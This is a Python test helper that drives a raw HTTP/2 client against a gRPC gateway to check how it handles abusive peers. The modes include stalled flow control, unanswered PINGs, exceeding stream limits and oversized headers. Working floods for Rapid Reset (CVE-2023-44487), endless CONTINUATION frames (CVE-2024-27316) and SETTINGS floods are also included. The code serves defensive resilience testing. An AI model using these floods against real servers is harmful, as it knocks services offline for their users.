#!/usr/bin/env python3
"""A raw HTTP/2 client (python h2, and its hyperframe and hpack where a
frame must be written that h2 refuses to write), for what grpcio will not
do: stop granting flow-control window, never answer PINGs, ignore
SETTINGS_MAX_CONCURRENT_STREAMS, send oversized header lists, and the
floods of the known HTTP/2 attacks. Driven by tests/it/grpc.rs.

It prints one JSON line per event, flushed at once:

  {"type": "settings", "settings": {"3": 100, ...}}   the gateway's SETTINGS
  {"type": "response", "stream": 1, "headers": {...}}
  {"type": "message", "stream": 1, "channel": ..., "id": ..., "payload": <base64>}
  {"type": "trailers", "stream": 1, "headers": {...}}
  {"type": "reset", "stream": 1, "code": 8}
  {"type": "ping"}
  {"type": "goaway", "code": 11, "last_stream": 0}
  {"type": "closed", "how": "eof" | "reset", "after_s": ...}
  {"type": "silent", "after_s": ...}                  nothing came (safety net)
  {"type": "started"}                                  a flood begins
  {"type": "summary", ...}                             a flood's outcome
"""

import argparse
import base64
import json
import socket
import struct
import sys
import threading
import time

import stubs

pb, _ = stubs.load()
import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import h2.events  # noqa: E402
import h2.settings  # noqa: E402
from h2.errors import ErrorCodes  # noqa: E402
from h2.settings import SettingCodes  # noqa: E402
from hyperframe.frame import (  # noqa: E402
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    SettingsFrame,
)

SUBSCRIBE = "/gateway.v1.Gateway/Subscribe"
# Safety net on every read: a gateway that says nothing for this long is
# reported, not waited for.
READ_TIMEOUT_S = 10.0


_print_lock = threading.Lock()


def emit(obj):
    # Whole lines, even from the thread watching a flooded connection.
    line = json.dumps(obj)
    with _print_lock:
        sys.stdout.write(line + "\n")
        sys.stdout.flush()


def headers_json(headers):
    out = {}
    for k, v in headers:
        k = k.decode() if isinstance(k, bytes) else k
        v = v.decode(errors="replace") if isinstance(v, bytes) else v
        out[k] = v
    return out


def grpc_message(msg, flag=0):
    """A gRPC length-prefixed message: the compressed flag, the length,
    the bytes."""
    body = msg.SerializeToString()
    return bytes([flag]) + struct.pack(">I", len(body)) + body


class Client:
    """One HTTP/2 connection; `settings` are the client's SETTINGS."""

    def __init__(self, target, settings=None):
        host, port = target.rsplit(":", 1)
        self.target = target
        self.sock = socket.create_connection((host, int(port)), timeout=READ_TIMEOUT_S)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        if settings:
            self.conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.conn.initiate_connection()
        self.flush()
        # Stream id -> bytes of gRPC messages not complete yet.
        self.partial = {}
        self.started = time.monotonic()
        self.closed = False

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def handshake(self):
        """Reads until the gateway's SETTINGS came and ours were acked."""
        got_settings = acked = False
        while not (got_settings and acked):
            for ev in self.read_events():
                if isinstance(ev, h2.events.RemoteSettingsChanged):
                    got_settings = True
                elif isinstance(ev, h2.events.SettingsAcknowledged):
                    acked = True
            if self.closed:
                return
            self.flush()

    def request_headers(self, path, extra=()):
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self.target),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ] + list(extra)

    def subscribe(self, channels, extra=(), flag=0):
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, self.request_headers(SUBSCRIBE, extra))
        self.conn.send_data(
            sid, grpc_message(pb.SubscribeRequest(channels=channels), flag), end_stream=True
        )
        return sid

    def read_events(self):
        """The next events from the socket, each printed; [] once closed."""
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            emit({"type": "silent", "after_s": round(time.monotonic() - self.started, 3)})
            self.closed = True
            return []
        except ConnectionResetError:
            self.close_seen("reset")
            return []
        if not data:
            self.close_seen("eof")
            return []
        events = self.conn.receive_data(data)
        for ev in events:
            self.report(ev)
        return events

    def close_seen(self, how):
        emit({"type": "closed", "how": how, "after_s": round(time.monotonic() - self.started, 3)})
        self.closed = True

    def report(self, ev):
        if isinstance(ev, h2.events.RemoteSettingsChanged):
            emit(
                {
                    "type": "settings",
                    "settings": {str(int(k)): v.new_value for k, v in ev.changed_settings.items()},
                }
            )
        elif isinstance(ev, h2.events.ResponseReceived):
            emit({"type": "response", "stream": ev.stream_id, "headers": headers_json(ev.headers)})
        elif isinstance(ev, h2.events.TrailersReceived):
            emit({"type": "trailers", "stream": ev.stream_id, "headers": headers_json(ev.headers)})
        elif isinstance(ev, h2.events.DataReceived):
            # Never acknowledged: the window granted at the start is all
            # the gateway gets.
            buf = self.partial.setdefault(ev.stream_id, bytearray())
            buf.extend(ev.data)
            while len(buf) >= 5:
                n = struct.unpack(">I", bytes(buf[1:5]))[0]
                if len(buf) < 5 + n:
                    break
                f = pb.ServerFrame.FromString(bytes(buf[5 : 5 + n]))
                del buf[: 5 + n]
                out = {"type": f.WhichOneof("kind") or "empty-frame", "stream": ev.stream_id}
                if f.HasField("message"):
                    m = f.message
                    out.update(
                        channel=m.channel,
                        id=m.id,
                        payload=base64.b64encode(m.payload).decode(),
                    )
                elif f.HasField("gap"):
                    out.update(channel=f.gap.channel)
                emit(out)
        elif isinstance(ev, h2.events.StreamReset):
            emit({"type": "reset", "stream": ev.stream_id, "code": int(ev.error_code)})
        elif isinstance(ev, h2.events.PingReceived):
            emit({"type": "ping"})
        elif isinstance(ev, h2.events.ConnectionTerminated):
            emit({"type": "goaway", "code": int(ev.error_code), "last_stream": ev.last_stream_id})

    def run_until_closed(self, flush):
        while not self.closed:
            self.read_events()
            if flush and not self.closed:
                try:
                    self.flush()
                except OSError:
                    self.close_seen("reset")


def slow(args):
    """Subscribes with a tiny stream window and never grants more."""
    c = Client(args.target, {SettingCodes.INITIAL_WINDOW_SIZE: args.window, SettingCodes.ENABLE_PUSH: 0})
    c.handshake()
    c.subscribe(args.channel)
    c.flush()
    # SETTINGS and PINGs are still answered: a client that is alive, only
    # not reading its stream.
    while not c.closed:
        events = c.read_events()
        c.flush()
        if any(
            isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated))
            for ev in events
        ):
            return


def deadpeer(args):
    """Subscribes, then never writes a byte again: no PING is acked."""
    c = Client(args.target)
    c.handshake()
    c.subscribe(args.channel)
    c.flush()
    c.run_until_closed(flush=False)


def streams(args):
    """Opens --count Subscribe streams at once, whatever the gateway's
    SETTINGS_MAX_CONCURRENT_STREAMS says."""
    c = Client(args.target)
    c.handshake()
    # Ignore the gateway's limit, as an abusive client would.
    c.conn.remote_settings[SettingCodes.MAX_CONCURRENT_STREAMS] = 2**31 - 1
    c.conn.remote_settings.acknowledge()
    for _ in range(args.count):
        c.subscribe(args.channel)
    c.flush()
    c.run_until_closed(flush=True)


def bigheaders(args):
    """A Subscribe whose header list is --bytes long; then, on the same
    connection if it is still open, a plain one."""
    c = Client(args.target)
    c.handshake()
    c.subscribe(args.channel, extra=[("x-pad", "p" * args.bytes)])
    c.flush()
    ended = False
    while not (ended or c.closed):
        events = c.read_events()
        c.flush()
        ended = any(
            isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated))
            for ev in events
        )
    if not c.closed and not any(isinstance(ev, h2.events.ConnectionTerminated) for ev in events):
        c.subscribe(args.channel)
        c.flush()
        c.run_until_closed(flush=True)


def flagged(args):
    """A Subscribe whose message has the compressed flag set, without any
    grpc-encoding: no way to read it."""
    c = Client(args.target)
    c.handshake()
    c.subscribe(args.channel, flag=1)
    c.flush()
    while not c.closed:
        events = c.read_events()
        c.flush()
        if any(isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)) for ev in events):
            return


class Watch:
    """Reads the attacked connection on a thread, frame by frame, without
    HPACK state: enough to see a GOAWAY, count SETTINGS ACKs and see the
    end. Done at the end, or once `acks` SETTINGS ACKs came."""

    def __init__(self, sock, started, acks=None):
        self.sock = sock
        self.started = started
        self.acks_wanted = acks
        self.acks = 0
        self.goaway = None
        self.ended = None
        self.ended_after = None
        self.frames = {}
        self.done = threading.Event()
        threading.Thread(target=self.run, daemon=True).start()

    def recv_more(self, buf):
        # The socket keeps the writer's timeout (one timeout per socket):
        # a timeout here only means nothing came yet.
        while True:
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                if time.monotonic() - self.started > 120:
                    raise EOFError
                continue
            if not chunk:
                raise EOFError
            buf.extend(chunk)
            return

    def run(self):
        buf = bytearray()
        try:
            while True:
                while len(buf) < 9:
                    self.recv_more(buf)
                frame, length = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
                while len(buf) < 9 + length:
                    self.recv_more(buf)
                body = bytes(buf[9 : 9 + length])
                del buf[: 9 + length]
                name = type(frame).__name__
                self.frames[name] = self.frames.get(name, 0) + 1
                if isinstance(frame, GoAwayFrame):
                    frame.parse_body(memoryview(body))
                    self.goaway = {"code": frame.error_code, "last_stream": frame.last_stream_id}
                    emit({"type": "goaway", **self.goaway})
                if isinstance(frame, SettingsFrame) and "ACK" in frame.flags:
                    self.acks += 1
                    if self.acks_wanted is not None and self.acks >= self.acks_wanted:
                        self.done.set()
                        return
        except EOFError:
            self.ended = "eof"
        except OSError as e:
            self.ended = f"reset ({e.__class__.__name__})"
        self.ended_after = round(time.monotonic() - self.started, 3)
        self.done.set()


def flood(args, make_chunk, total, watch_while_sending=True, acks_per_chunk=None):
    """Handshake, then writes make_chunk(i) for i in 0..total until the
    gateway ends the connection; reports how it ended."""
    c = Client(args.target)
    c.handshake()
    started = time.monotonic()
    emit({"type": "started"})
    watch = Watch(c.sock, started) if watch_while_sending else None
    sent = 0
    bytes_sent = 0
    write_error = None
    c.sock.settimeout(args.write_timeout)
    while sent < total:
        if watch is not None and watch.done.is_set():
            break
        chunk = make_chunk(c, sent)
        try:
            c.sock.sendall(chunk)
        except socket.timeout:
            write_error = "blocked"
            break
        except OSError as e:
            write_error = e.__class__.__name__
            break
        sent += 1
        bytes_sent += len(chunk)
    sent_for_s = round(time.monotonic() - started, 3)
    if watch is None:
        acks = None if acks_per_chunk is None else sent * acks_per_chunk
        watch = Watch(c.sock, started, acks)
    # The gateway answers or ends the connection; a safety net, not a wait.
    watch.done.wait(args.end_within)
    emit(
        {
            "type": "summary",
            "chunks": sent,
            "bytes_sent": bytes_sent,
            "sent_for_s": sent_for_s,
            "write_error": write_error,
            "goaway": watch.goaway,
            "ended": watch.ended,
            "ended_after_s": watch.ended_after,
            "settings_acks": watch.acks,
            "frames": dict(watch.frames),
        }
    )


def rapid_reset(args):
    """HEADERS of a Subscribe then RST_STREAM(CANCEL), over and over
    (CVE-2023-44487), BATCH streams per write."""
    batch = 100

    def chunk(c, _i):
        for _ in range(batch):
            sid = c.conn.get_next_available_stream_id()
            c.conn.send_headers(sid, c.request_headers(SUBSCRIBE))
            c.conn.reset_stream(sid, ErrorCodes.CANCEL)
        return c.conn.data_to_send()

    flood(args, chunk, args.count // batch)


def continuation(args):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames that
    never end the block (CVE-2024-27316 and kin). Each carries whole
    literal header fields, never indexed, so the block stays valid HPACK."""
    field = b"\x00" + bytes([7]) + b"x-flood" + bytes([126]) + b"f" * 126
    payload = field * (16000 // len(field))

    def chunk(c, i):
        if i == 0:
            # The request's own fields: static-table indexes and literals,
            # nothing indexed, then the first flood fields.
            first = HeadersFrame(1)
            first.flags.add("END_STREAM")
            block = b"\x83\x86"  # :method POST, :scheme http
            for name, value in ((":path", SUBSCRIBE), (":authority", c.target), ("content-type", "application/grpc")):
                n, v = name.encode(), value.encode()
                block += b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
            first.data = block + payload
            return first.serialize()
        f = ContinuationFrame(1)
        f.data = payload
        return f.serialize()

    flood(args, chunk, args.max_bytes // len(payload))


def settings_flood(args):
    """Empty SETTINGS frames, each asking for an ACK, written without
    reading any of the ACKs; then the ACKs are read."""
    batch = 1000
    one = SettingsFrame(0).serialize()

    def chunk(_c, _i):
        return one * batch

    flood(args, chunk, args.count // batch, watch_while_sending=False, acks_per_chunk=batch)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("slow", "deadpeer", "streams", "bigheaders", "flagged", "rapid-reset", "continuation", "settings-flood"):
        s = sub.add_parser(name)
        s.add_argument("target")
        s.add_argument("--channel", action="append", default=[])
        s.add_argument("--window", type=int, default=65535)
        s.add_argument("--count", type=int, default=10_000)
        s.add_argument("--bytes", type=int, default=0)
        s.add_argument("--max-bytes", type=int, default=64 << 20)
        s.add_argument("--write-timeout", type=float, default=3.0)
        s.add_argument("--end-within", type=float, default=5.0)
    args = p.parse_args()
    {
        "slow": slow,
        "deadpeer": deadpeer,
        "streams": streams,
        "bigheaders": bigheaders,
        "flagged": flagged,
        "rapid-reset": rapid_reset,
        "continuation": continuation,
        "settings-flood": settings_flood,
    }[args.cmd](args)


if __name__ == "__main__":
    main()
